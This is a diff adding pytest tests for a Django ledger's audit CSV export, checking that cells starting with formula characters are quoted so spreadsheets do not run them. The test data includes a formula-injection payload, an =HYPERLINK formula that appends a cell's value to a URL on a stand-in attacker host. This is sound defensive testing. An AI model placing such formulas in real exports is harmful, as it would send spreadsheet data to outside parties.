@@ -10,8 +10,11 @@ import pytest
 from django.contrib.auth.models import Group, User
 from django.db import connection
 from django.test import Client
+from hypothesis import given
+from hypothesis import strategies as st
 
 from ledger import policy
+from ledger.audit import csv_cell
 from ledger.models import Capability, Event, Invocation
 from ledger.services import flag_missing_evidence
 from reconciliation.services import invocation_resolve
@@ -189,3 +192,40 @@ def test_the_export_command_streams_the_same_rows(history: None) -> None:
     rows = list(csv.DictReader(io.StringIO(out.getvalue())))
     events = Event.objects.filter(invocation__capability_scope="payroll.change")
     assert sorted(r["hash"] for r in rows) == sorted(events.values_list("hash", flat=True))
+
+
+HOSTILE_SUBJECTS = {
+    "inv-formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "inv-blank-first": "  -2+3",
+    "inv-at": "@SUM(1)",
+    "inv-quoted": "'already quoted",
+    "inv-plain": "customer:7",
+}
+
+
+def test_no_exported_csv_cell_runs_as_a_formula(api: Api, reviewer: Client) -> None:
+    """A runtime picks its subjects; the reviewer's spreadsheet must not run them, and
+    dropping the one leading quote gives back what was recorded (JSONL is verbatim)."""
+    for n, (invocation_id, subject) in enumerate(HOSTILE_SUBJECTS.items()):
+        status, body = api.intent(
+            invocation_id=invocation_id, idempotency_key=f"k{n}", subject=subject
+        )
+        assert status == 201, body
+    csv_body = b"".join(reviewer.get("/audit/export.csv").streaming_content)  # type: ignore[attr-defined]
+    rows = csv.DictReader(io.StringIO(csv_body.decode()))
+    cells = {row["invocation_id"]: row["subject"] for row in rows}
+    assert cells["inv-plain"] == "customer:7"
+    for invocation_id, subject in HOSTILE_SUBJECTS.items():
+        if invocation_id != "inv-plain":
+            assert cells[invocation_id] == "'" + subject
+    jsonl = b"".join(reviewer.get("/audit/export.jsonl").streaming_content)  # type: ignore[attr-defined]
+    verbatim = {r["invocation_id"]: r["subject"] for r in map(json.loads, jsonl.splitlines())}
+    assert verbatim == HOSTILE_SUBJECTS
+    assert {i: c.removeprefix("'") for i, c in cells.items()} == verbatim
+
+
+@given(st.text())
+def test_a_csv_cell_unquotes_exactly_and_never_starts_a_formula(value: str) -> None:
+    cell = csv_cell(value)
+    assert (cell[1:] if cell.startswith("'") else cell) == value
+    assert cell.startswith("'") or not cell.lstrip().startswith(("=", "+", "-", "@"))
